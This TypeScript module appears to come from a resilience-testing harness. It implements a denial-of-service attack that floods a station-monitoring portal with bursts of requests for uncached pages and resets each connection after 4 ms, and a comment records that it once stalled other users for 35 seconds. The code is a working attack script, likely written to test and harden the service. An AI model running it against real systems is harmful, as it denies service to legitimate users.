/** Pages that nobody waits for: requests for states that no one has asked for, each reset after 4 ms. */
import { encodeRequest } from '../harness/exchange.js';
import { openConnection, type Attack } from './attack.js';

/** 300 at a time, 30 kB in all, once kept everybody else waiting for 35 s. */
const AT_A_TIME = 300;
const EVERY_MS = 2_000;
const RESET_AFTER_MS = 4;
const STATIONS = 30;
const COMPONENTS = 5;
const WINDOWS = ['1h', '1d', '7d', '14d', '30d'];
const LANGUAGES = ['sr-Cyrl', 'sr-Latn'];

export const abandonedPages: Attack = (order) => {
  let sent = 0;
  const ask = (): void => {
    const path = pageAt(sent);
    sent += 1;
    const socket = openConnection(order);
    socket.on('connect', () => {
      socket.write(encodeRequest(order.port, { path, headers: {} }));
      setTimeout(() => socket.resetAndDestroy(), RESET_AFTER_MS);
    });
  };
  const burst = (): void => {
    for (let at = 0; at < AT_A_TIME; at += 1) ask();
  };
  burst();
  setInterval(burst, EVERY_MS);
  return { report: () => ({ sent }) };
};

/** Each number has a page of its own, up to 3,000. */
function pageAt(number: number): string {
  let left = number;
  const digit = (base: number): number => {
    const value = left % base;
    left = Math.floor(left / base);
    return value;
  };
  const station = digit(STATIONS) + 1;
  const component = digit(COMPONENTS) + 1;
  const window = WINDOWS[digit(WINDOWS.length)] ?? '';
  const language = LANGUAGES[digit(LANGUAGES.length)] ?? '';
  const page = digit(2) === 0 ? '/portal/station-modal' : '/';
  return `${page}?language=${language}&station_id=${station}&component_id=${component}&window=${window}`;
}
